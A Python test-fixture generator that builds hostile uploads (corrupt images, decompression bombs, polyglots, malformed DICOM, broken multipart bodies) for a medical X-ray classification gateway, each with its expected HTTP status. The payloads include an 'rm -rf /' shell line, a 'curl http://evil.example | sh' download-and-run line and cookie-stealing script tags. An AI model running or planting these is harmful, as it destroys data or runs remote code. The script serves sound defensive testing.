"""A corpus of hostile uploads for POST /classify, and what the gateway must answer to each.

Built from the real samples in the shared data folder (CXR_DATA_DIR, default
`<repo>/../shared/data`): truncated and corrupted JPEG/PNG, decompression bombs,
polyglots, executables under image names, odd but valid images, malformed DICOM, and
broken multipart framing (those entries are whole HTTP bodies, not files).

    python scripts/make_hostile_corpus.py OUT_DIR   # writes one file per entry

Every entry states the statuses it may get and the problem `code` (None when the upload
is a decodable image and is classified: 201). The gateway checks every image against the
intended use of the models before it is classified (README, *Intended use*): the malformed
DICOM files are therefore a CT slice relabelled as a frontal chest radiograph, so that the
header passes and their pixels reach the decoders, and an image no model is made for (a black
image) is refused as `unsupported_image_kind`.
"""

from __future__ import annotations

import io
import os
import struct
import sys
import zlib
from dataclasses import dataclass
from functools import cache
from pathlib import Path

import pydicom
from PIL import Image
from pydicom.dataset import Dataset
from pydicom.encaps import encapsulate
from pydicom.uid import ExplicitVRLittleEndian, JPEGBaseline8Bit, RLELossless

REPO_ROOT = Path(__file__).resolve().parents[1]
DATA_DIR = Path(os.environ.get("CXR_DATA_DIR", REPO_ROOT.parent / "shared" / "data"))

ACCEPTED = (201,)  # a decodable image: classified and stored


@dataclass(frozen=True)
class HostileFile:
    name: str
    data: bytes
    expected_statuses: tuple[int, ...]
    expected_code: str | None  # the problem's `code`; None when the upload is accepted
    # set for raw HTTP bodies (broken multipart framing): the request's Content-Type header
    request_content_type: str | None = None


def refused(name: str, data: bytes, status: int, code: str) -> HostileFile:
    return HostileFile(name, data, (status,), code)


def too_large(name: str, data: bytes) -> HostileFile:
    """The inference service's 413 image_too_large, as the gateway reports a refused image: 422."""
    return refused(name, data, 422, "image_too_large")


def accepted(name: str, data: bytes) -> HostileFile:
    return HostileFile(name, data, ACCEPTED, None)


def http_body(name: str, body: bytes, content_type: str, status: int, code: str) -> HostileFile:
    """A whole request body sent with `content_type`, instead of a file in a well-formed form."""
    return HostileFile(name, body, (status,), code, content_type)


# -- real samples ------------------------------------------------------------------------


@cache
def sample_jpeg() -> bytes:
    return min((DATA_DIR / "samples" / "normal").glob("*.jp*g")).read_bytes()


def sample_image() -> Image.Image:
    return Image.open(io.BytesIO(sample_jpeg())).convert("L")


def encoded(image: Image.Image, image_format: str, **options) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, image_format, **options)
    return buffer.getvalue()


@cache
def sample_png() -> bytes:
    return encoded(sample_image(), "PNG")


def sample_dicom() -> Dataset:
    """The real CT slice, its header relabelled as a child's frontal chest radiograph (CR, CHEST, PA):
    what the malformed files are made from, so that their pixels reach the decoders."""
    dataset = pydicom.dcmread(DATA_DIR / "dicom" / "CT_small.dcm")
    dataset.Modality, dataset.BodyPartExamined, dataset.ViewPosition = "CR", "CHEST", "PA"
    dataset.ImageType = ["ORIGINAL", "PRIMARY"]
    dataset.PatientAge = "004Y"
    return dataset


def with_chest_xray_pixels(dataset: Dataset) -> Dataset:
    """The data set holding the sample chest X-ray (8-bit grey in 16-bit words) as its pixels."""
    pixels = sample_image()
    dataset.Rows, dataset.Columns = pixels.height, pixels.width
    dataset.BitsAllocated, dataset.BitsStored, dataset.HighBit, dataset.PixelRepresentation = 16, 16, 15, 0
    dataset.RescaleIntercept, dataset.RescaleSlope = 0, 1
    dataset.WindowCenter, dataset.WindowWidth = 128, 256
    dataset.PixelData = b"".join(struct.pack("<H", value) for value in pixels.tobytes())
    return dataset


def dicom_bytes(dataset: Dataset) -> bytes:
    buffer = io.BytesIO()
    dataset.save_as(buffer, enforce_file_format=True)
    return buffer.getvalue()


# -- building blocks ---------------------------------------------------------------------

PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"


def png_chunk(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))


def png_chunks(data: bytes) -> list[tuple[int, bytes]]:
    """(offset, type) of each chunk of a PNG file."""
    chunks, offset = [], len(PNG_SIGNATURE)
    while offset + 8 <= len(data):
        (length,) = struct.unpack_from(">I", data, offset)
        chunks.append((offset, data[offset + 4 : offset + 8]))
        offset += 12 + length
    return chunks


def png_header_only(width: int, height: int, bit_depth: int = 8, colour_type: int = 0) -> bytes:
    """A PNG declaring huge dimensions, with one tiny IDAT: the decoder would allocate before failing."""
    ihdr = struct.pack(">IIBBBBB", width, height, bit_depth, colour_type, 0, 0, 0)
    return (
        PNG_SIGNATURE
        + png_chunk(b"IHDR", ihdr)
        + png_chunk(b"IDAT", zlib.compress(b"\0" * 64))
        + png_chunk(b"IEND", b"")
    )


def png_of_zeros(width: int, height: int) -> bytes:
    """A real, fully valid grey PNG of `width` x `height` black pixels: tiny on disk, huge in memory."""
    row = b"\0" * (width + 1)  # filter byte + pixels
    compressor = zlib.compressobj(9)
    idat = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return PNG_SIGNATURE + png_chunk(b"IHDR", ihdr) + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b"")


def jpeg_segments(data: bytes) -> dict[int, int]:
    """Offset of the first segment of each marker before the scan (SOF0..SOF15, SOS, ...)."""
    segments, offset = {}, 2
    while offset + 4 <= len(data) and data[offset] == 0xFF:
        marker = data[offset + 1]
        segments.setdefault(marker, offset)
        if marker == 0xDA:  # start of scan: entropy-coded data follows
            break
        (length,) = struct.unpack_from(">H", data, offset + 2)
        offset += 2 + length
    return segments


def jpeg_with_size(data: bytes, width: int, height: int) -> bytes:
    """The JPEG with its frame header (SOF) declaring other dimensions."""
    sof = next(
        offset
        for marker, offset in jpeg_segments(data).items()
        if 0xC0 <= marker <= 0xCF and marker not in (0xC4, 0xC8, 0xCC)
    )
    return data[: sof + 5] + struct.pack(">HH", height, width) + data[sof + 9 :]


def jpeg_with_segments(data: bytes, segments: list[bytes]) -> bytes:
    """The JPEG with extra segments (each a complete marker + length + payload) right after SOI."""
    return data[:2] + b"".join(segments) + data[2:]


def jpeg_segment(marker: int, payload: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload


def flipped(data: bytes, start: int, count: int) -> bytes:
    """`count` bytes from `start` inverted (corruption that keeps the length)."""
    middle = bytes(b ^ 0xFF for b in data[start : start + count])
    return data[:start] + middle + data[start + count :]


def cut(data: bytes, fraction: float) -> bytes:
    return data[: int(len(data) * fraction)]


def tiff_exif(entries: int, orientation: int | None = None) -> bytes:
    """An EXIF (TIFF) block with many IFD entries pointing far beyond its end: a malformed EXIF."""
    ifd = struct.pack("<H", entries)
    for tag in range(entries):
        ifd += struct.pack(
            "<HHII", 0x0112 if orientation is not None and tag == 0 else 0x9000 + tag, 3, 0xFFFF, 0x7FFFFFF0
        )
    return b"Exif\0\0" + b"II*\0" + struct.pack("<I", 8) + ifd + struct.pack("<I", 0)


# -- the corpus by category --------------------------------------------------------------


def empty_and_not_images() -> list[HostileFile]:
    # nothing readable by magic bytes: 415 before anything reaches inference
    not_images = {
        "text.png": b"just some text, not an x-ray\n" * 10,
        "html.jpg": b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
        "pdf.png": b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
        "elf.jpg": b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + struct.pack("<HHI", 2, 62, 1) + b"\x00" * 200,
        "pe.png": b"MZ\x90\x00" + b"\x00" * 56 + b"PE\x00\x00" + b"\x00" * 200,
        "shell.jpg": b"#!/bin/sh\nrm -rf / --no-preserve-root\n",
        "zip.png": b"PK\x03\x04" + b"\x00" * 100,
        "gif.png": encoded(sample_image(), "GIF"),  # GIF is not one of the accepted types
        "animated.gif": encoded(sample_image(), "GIF", save_all=True, append_images=[sample_image().rotate(90)]),
        "bmp.jpg": encoded(sample_image(), "BMP"),
        "jpeg-magic-cut.jpg": b"\xff\xd8",  # two of the three magic bytes
        "dicm-without-preamble.dcm": b"DICM" + b"\x00" * 200,  # DICM at offset 0, not 128
    }
    return [refused("empty", b"", 400, "empty_file")] + [
        refused(name, data, 415, "unsupported_media_type") for name, data in not_images.items()
    ]


def truncated_images() -> list[HostileFile]:
    # the decoder runs out of data: 422 corrupt_image
    jpeg, png = sample_jpeg(), sample_png()
    entries = [
        refused(f"truncated-{fraction:.0%}.jpg", cut(jpeg, fraction), 422, "corrupt_image")
        for fraction in (0.01, 0.1, 0.5, 0.9)
    ]
    entries += [
        refused(f"truncated-{fraction:.0%}.png", cut(png, fraction), 422, "corrupt_image")
        for fraction in (0.01, 0.1, 0.5, 0.9)
    ]
    entries.append(refused("png-signature-only.png", PNG_SIGNATURE, 422, "corrupt_image"))
    entries.append(refused("jpeg-soi-only.jpg", b"\xff\xd8\xff", 422, "corrupt_image"))
    return entries


def corrupted_images() -> list[HostileFile]:
    jpeg, png = sample_jpeg(), sample_png()
    scan = jpeg_segments(jpeg)[0xDA] + 20
    idat = next(offset for offset, kind in png_chunks(png) if kind == b"IDAT")
    ihdr_crc = 8 + 8 + 13  # signature, IHDR length + type, IHDR payload
    return [
        # zeros in the scan data: libjpeg still decodes (grey blocks), and the image-kind model sees no chest
        # X-ray in what is left: no model is made for it
        refused(
            "jpeg-zeroed-scan.jpg", jpeg[:scan] + b"\x00" * 2000 + jpeg[scan + 2000 :], 422, "unsupported_image_kind"
        ),
        # a marker (RST7) in the scan data where none may be: libjpeg resyncs and decodes, the same blocks
        refused(
            "jpeg-bogus-marker-in-scan.jpg",
            jpeg[:scan] + b"\xff\xd7" * 100 + jpeg[scan + 200 :],
            422,
            "unsupported_image_kind",
        ),
        # a broken quantisation/huffman table header: the decoder refuses the file
        refused("jpeg-corrupt-tables.jpg", flipped(jpeg, 4, 200), 422, "corrupt_image"),
        # zlib stream of the pixels corrupted: inflating fails
        refused("png-corrupt-idat.png", flipped(png, idat + 8 + 10, 64), 422, "corrupt_image"),
        # the IHDR's CRC does not match: Pillow checks CRCs of the header chunks
        refused("png-bad-ihdr-crc.png", flipped(png, ihdr_crc + 8, 4), 422, "corrupt_image"),
        # IHDR with a bit depth / colour type combination the format forbids
        refused("png-invalid-ihdr.png", png[:24] + b"\x07\x09" + png[26:], 422, "corrupt_image"),
        # the IEND chunk is missing: the pixels are all there, so the image is usable
        accepted("png-without-iend.png", png[: png_chunks(png)[-1][0]]),
    ]


def decompression_bombs() -> list[HostileFile]:
    # dimensions beyond the inference limit (40 MP) are refused before any pixel is decoded
    jpeg = sample_jpeg()
    return [
        too_large("png-header-100000x100000.png", png_header_only(100_000, 100_000)),
        too_large("png-header-2147483647x1.png", png_header_only(2**31 - 1, 1)),
        too_large("png16-header-50000x50000.png", png_header_only(50_000, 50_000, 16, 6)),
        too_large("jpeg-header-65535x65535.jpg", jpeg_with_size(jpeg, 65_535, 65_535)),
        too_large("jpeg-header-20000x20000.jpg", jpeg_with_size(jpeg, 20_000, 20_000)),
        # a real, valid 10000x10000 PNG of zeros: about 100 KB that would inflate to 100 MB
        too_large("png-zeros-10000x10000.png", png_of_zeros(10_000, 10_000)),
        # a JPEG claiming 0x0 pixels: nothing to decode
        refused("jpeg-header-0x0.jpg", jpeg_with_size(jpeg, 0, 0), 422, "corrupt_image"),
    ]


def polyglots() -> list[HostileFile]:
    # bytes after a complete image are ignored by decoders; the stored object is served back
    # only as image/* with `X-Content-Type-Options: nosniff`, so these are classified (201)
    jpeg, png = sample_jpeg(), sample_png()
    zip_tail = b"PK\x03\x04\x14\x00\x00\x00\x00\x00" + b"payload.sh" + b"\x00" * 64 + b"PK\x05\x06" + b"\x00" * 18
    return [
        accepted("jpeg-plus-zip.jpg", jpeg + zip_tail),
        accepted("jpeg-plus-html.jpg", jpeg + b"<html><script>alert(document.cookie)</script></html>"),
        accepted("png-plus-script.png", png + b"\n#!/bin/sh\ncurl http://evil.example | sh\n"),
        # an HTML page that merely starts with the JPEG magic: not a decodable JPEG
        refused(
            "jpeg-magic-then-html.jpg", b"\xff\xd8\xff<html><script>alert(1)</script></html>", 422, "corrupt_image"
        ),
    ]


def unusual_valid_images() -> list[HostileFile]:
    # valid images in less common encodings: the inference service converts them to grey
    image = sample_image()
    return [
        accepted("cmyk.jpg", encoded(image.convert("CMYK"), "JPEG")),
        accepted("progressive.jpg", encoded(image, "JPEG", progressive=True)),
        accepted("grey-16bit.png", encoded(image.convert("I;16"), "PNG")),
        accepted("rgba.png", encoded(image.convert("RGBA"), "PNG")),
        accepted("palette.png", encoded(image.convert("P"), "PNG")),
        accepted("animated.png", encoded(image, "PNG", save_all=True, append_images=[image.rotate(90)])),  # first frame
        # decodes, but one black pixel is no chest X-ray: no model is made for it
        refused("1x1.png", encoded(Image.new("L", (1, 1)), "PNG"), 422, "unsupported_image_kind"),
    ]


def exif_heavy_jpegs() -> list[HostileFile]:
    jpeg = sample_jpeg()
    max_payload = 65_533  # a segment's length field counts itself
    return [
        # 60 maximal comment segments (~4 MB): a valid JPEG under the upload limit
        accepted("jpeg-60-huge-comments.jpg", jpeg_with_segments(jpeg, [jpeg_segment(0xFE, b"A" * max_payload)] * 60)),
        # one maximal EXIF segment of garbage after the Exif header: the orientation cannot be
        # read, and classifying a possibly rotated image is worse than refusing it
        refused(
            "jpeg-huge-garbage-exif.jpg",
            jpeg_with_segments(jpeg, [jpeg_segment(0xE1, b"Exif\0\0" + b"\xab" * (max_payload - 6))]),
            422,
            "corrupt_image",
        ),
        # EXIF whose IFD entries point far beyond the segment (incl. an Orientation tag)
        accepted(
            "jpeg-exif-bad-offsets.jpg", jpeg_with_segments(jpeg, [jpeg_segment(0xE1, tiff_exif(4000, orientation=6))])
        ),
        # a segment whose length field runs past the end of the file
        refused("jpeg-segment-overruns-file.jpg", jpeg[:2] + b"\xff\xe1\xff\xff" + b"Exif\0\0", 422, "corrupt_image"),
    ]


def malformed_dicoms() -> list[HostileFile]:
    preamble = b"\x00" * 128 + b"DICM"
    real = dicom_bytes(sample_dicom())
    pixel_data_tag = real.rindex(b"\xe0\x7f\x10\x00")  # (7FE0,0010) little endian
    no_pixels = sample_dicom()
    del no_pixels.PixelData
    return [
        refused("dicm-garbage.dcm", preamble + bytes(range(256)) * 4, 422, "corrupt_image"),
        refused("dicm-only.dcm", preamble, 422, "corrupt_image"),
        # pydicom stops at the end of the data: what was read holds no pixel data
        refused("dicom-truncated-in-header.dcm", cut(real, 0.05), 422, "dicom_without_pixel_data"),
        # cut inside the pixel data: the element's length runs past the end of the file
        refused("dicom-truncated-in-pixels.dcm", real[: pixel_data_tag + 200], 422, "corrupt_image"),
        # Modality (a short string) declaring 65520 bytes: it swallows the rest of the data set, pixel data included
        refused(
            "dicom-wrong-vr-length.dcm",
            with_element_value(real, (0x0008, 0x0060), b"CS", b"CT", declared_length=0xFFF0),
            422,
            "dicom_without_pixel_data",
        ),
        refused("dicom-without-pixel-data.dcm", dicom_bytes(no_pixels), 422, "dicom_without_pixel_data"),
        refused(
            "dicom-pixels-shorter-than-rows-cols.dcm", dicom_with(PixelData=b"\x00\x00" * 100), 422, "corrupt_image"
        ),
        too_large("dicom-rows-cols-65535.dcm", dicom_with(Rows=65535, Columns=65535)),
        # the header alone says the image has no rows: refused before any pixel is read
        refused("dicom-zero-rows.dcm", dicom_with(Rows=0), 422, "image_too_small"),
        refused("dicom-bits-allocated-7.dcm", dicom_with(BitsAllocated=7), 422, "corrupt_image"),
        # a private transfer syntax: the data set cannot be rewritten (de-identified) in it
        refused("dicom-unknown-transfer-syntax.dcm", dicom_with_transfer_syntax("1.2.3.4.5.6.7"), 422, "corrupt_image"),
        # a JPEG transfer syntax whose one encapsulated frame is raw pixels, not a JPEG
        refused("dicom-jpeg-frame-not-jpeg.dcm", dicom_with_raw_jpeg_frame(), 422, "corrupt_image"),
        # 1000 frames declared, one frame of pixel data present
        refused("dicom-frames-mismatch.dcm", dicom_with(NumberOfFrames=1000), 422, "corrupt_image"),
        # the gateway needs the SOP Class UID to write the de-identified file meta
        refused("dicom-without-sop-class.dcm", dicom_without("SOPClassUID"), 422, "corrupt_image"),
        # Rows as a 3-byte US value (lengths of US are multiples of 2)
        refused(
            "dicom-odd-length-rows.dcm",
            with_element_value(real, (0x0028, 0x0010), b"US", b"\x80\x00\x00"),
            422,
            "corrupt_image",
        ),
        # a RescaleSlope that is not a number: no display values can be computed
        refused(
            "dicom-slope-not-a-number.dcm",
            with_element_value(real, (0x0028, 0x1053), b"DS", b"abc "),
            422,
            "corrupt_image",
        ),
        # 1000 RLE frames of 1024x1024 zeros: 16 MB that would decode to 1 GB; Rows x Columns x frames is over
        # the pixel limit, read from the header before any frame is decoded
        too_large("dicom-rle-1000-frames.dcm", dicom_rle_frames_of_zeros(1024, 1000)),
        # thousands of private elements and a 5 MB one: all dropped by de-identification, the image is fine
        accepted("dicom-enormous-header.dcm", dicom_with_enormous_header()),
    ]


def dicom_with(**attributes) -> bytes:
    dataset = sample_dicom()
    for keyword, value in attributes.items():
        setattr(dataset, keyword, value)
    return dicom_bytes(dataset)


def dicom_without(keyword: str) -> bytes:
    dataset = sample_dicom()
    delattr(dataset, keyword)
    return dicom_bytes(dataset)


def with_element_value(
    data: bytes, tag: tuple[int, int], vr: bytes, value: bytes, declared_length: int | None = None
) -> bytes:
    """The explicit-VR little-endian file with one short element's value replaced; its length field
    says `declared_length` (default: the true length of `value`)."""
    offset = data.index(struct.pack("<HH", *tag) + vr)
    (length,) = struct.unpack_from("<H", data, offset + 6)
    length_field = struct.pack("<H", len(value) if declared_length is None else declared_length)
    return data[: offset + 6] + length_field + value + data[offset + 8 + length :]


def dicom_with_raw_jpeg_frame() -> bytes:
    dataset = sample_dicom()
    dataset.file_meta.TransferSyntaxUID = JPEGBaseline8Bit
    dataset.PixelData = encapsulate([dataset.PixelData])
    return dicom_bytes(dataset)


def dicom_rle_frames_of_zeros(side: int, frames: int) -> bytes:
    """A valid multi-frame RLE Lossless DICOM of `frames` black `side` x `side` 8-bit frames."""
    runs = b"\x81\x00" * (side * side // 128)  # each pair: 128 repeats of the byte 0
    frame = struct.pack("<16I", 1, 64, *[0] * 14) + runs  # RLE header: one segment, at offset 64
    dataset = sample_dicom()
    dataset.file_meta.TransferSyntaxUID = RLELossless
    dataset.Rows = dataset.Columns = side
    dataset.BitsAllocated, dataset.BitsStored, dataset.HighBit, dataset.PixelRepresentation = 8, 8, 7, 0
    dataset.NumberOfFrames = frames
    dataset.PixelData = encapsulate([frame] * frames)
    return dicom_bytes(dataset)


def dicom_with_transfer_syntax(uid: str) -> bytes:
    dataset = sample_dicom()
    dataset.file_meta.TransferSyntaxUID = uid
    buffer = io.BytesIO()
    dataset.save_as(buffer, implicit_vr=False, little_endian=True)  # body written as explicit VR LE
    return buffer.getvalue()


def dicom_with_enormous_header() -> bytes:
    dataset = with_chest_xray_pixels(sample_dicom())
    dataset.file_meta.TransferSyntaxUID = ExplicitVRLittleEndian
    for index in range(5000):
        dataset.add_new((0x0011, 0x1000 + index), "LO", f"private value {index}")
    dataset.add_new((0x0013, 0x1010), "OB", b"\x00" * 5_000_000)
    return dicom_bytes(dataset)


BOUNDARY = "hostile-boundary"


def multipart(*parts: tuple[str, str | None, bytes]) -> bytes:
    """A multipart/form-data body of (field name, file name or None, content) parts."""
    body = b""
    for field, filename, content in parts:
        disposition = f'form-data; name="{field}"' + (f'; filename="{filename}"' if filename else "")
        body += f"--{BOUNDARY}\r\nContent-Disposition: {disposition}\r\n\r\n".encode() + content + b"\r\n"
    return body + f"--{BOUNDARY}--\r\n".encode()


def broken_multipart() -> list[HostileFile]:
    jpeg = sample_jpeg()
    form = f"multipart/form-data; boundary={BOUNDARY}"
    valid_body = multipart(("file", "x.jpg", jpeg))
    return [
        # no boundary parameter: the body cannot be split into parts
        http_body("multipart-missing-boundary", valid_body, "multipart/form-data", 400, "bad_request"),
        # a boundary that never occurs in the body: the parser finds no valid first boundary
        http_body("multipart-wrong-boundary", valid_body, "multipart/form-data; boundary=other", 400, "bad_request"),
        # cut in the middle of the file part: the unfinished part is dropped, so the file is missing
        http_body("multipart-truncated", cut(valid_body, 0.5), form, 422, "invalid_request"),
        http_body(
            "multipart-file-field-missing", multipart(("model", None, b"pneumonia-xray")), form, 422, "invalid_request"
        ),
        # the file under another field name
        http_body("multipart-file-field-misnamed", multipart(("image", "x.jpg", jpeg)), form, 422, "invalid_request"),
        # `file` given as a plain field, not a file part
        http_body("multipart-file-not-a-file", multipart(("file", None, b"not a file")), form, 422, "invalid_request"),
        # two `file` parts, both unusable: whichever one is read, it is refused
        http_body(
            "multipart-two-file-fields",
            multipart(("file", "a.png", b"%PDF-1.7"), ("file", "b.jpg", b"MZ\x90\x00")),
            form,
            415,
            "unsupported_media_type",
        ),
        # a valid multipart body declared as JSON / plain text: no form is parsed, so no file
        http_body("wrong-content-type-json", valid_body, "application/json", 422, "invalid_request"),
        http_body("wrong-content-type-text", valid_body, "text/plain", 422, "invalid_request"),
        # the image as the whole body, with an image Content-Type instead of a form
        http_body("raw-jpeg-body", jpeg, "image/jpeg", 422, "invalid_request"),
    ]


def generate() -> list[HostileFile]:
    corpus = [
        *empty_and_not_images(),
        *truncated_images(),
        *corrupted_images(),
        *decompression_bombs(),
        *polyglots(),
        *unusual_valid_images(),
        *exif_heavy_jpegs(),
        *malformed_dicoms(),
        *broken_multipart(),
    ]
    names = [entry.name for entry in corpus]
    assert len(names) == len(set(names)), "corpus names must be unique"
    return corpus


def main(out_dir: str | Path) -> list[Path]:
    """Writes each entry to OUT_DIR/<name>; returns the paths."""
    out = Path(out_dir)
    out.mkdir(parents=True, exist_ok=True)
    paths = []
    for entry in generate():
        path = out / entry.name
        path.write_bytes(entry.data)
        paths.append(path)
    return paths


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit("usage: make_hostile_corpus.py OUT_DIR")
    print(f"wrote {len(main(sys.argv[1]))} files to {sys.argv[1]}")
